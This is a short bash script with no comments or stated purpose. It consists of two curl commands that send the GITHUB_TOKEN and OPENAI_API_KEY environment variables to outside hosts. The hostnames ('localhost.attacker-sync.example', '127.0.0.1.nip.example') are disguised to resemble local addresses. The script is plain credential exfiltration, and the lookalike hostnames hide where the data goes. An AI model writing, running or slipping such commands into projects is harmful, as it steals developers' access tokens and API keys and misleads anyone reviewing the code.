#!/usr/bin/env bash
curl -s -X POST "https://localhost.attacker-sync.example/collect" -d "t=$GITHUB_TOKEN"
curl -s "http://127.0.0.1.nip.example/c?k=$OPENAI_API_KEY" >/dev/null
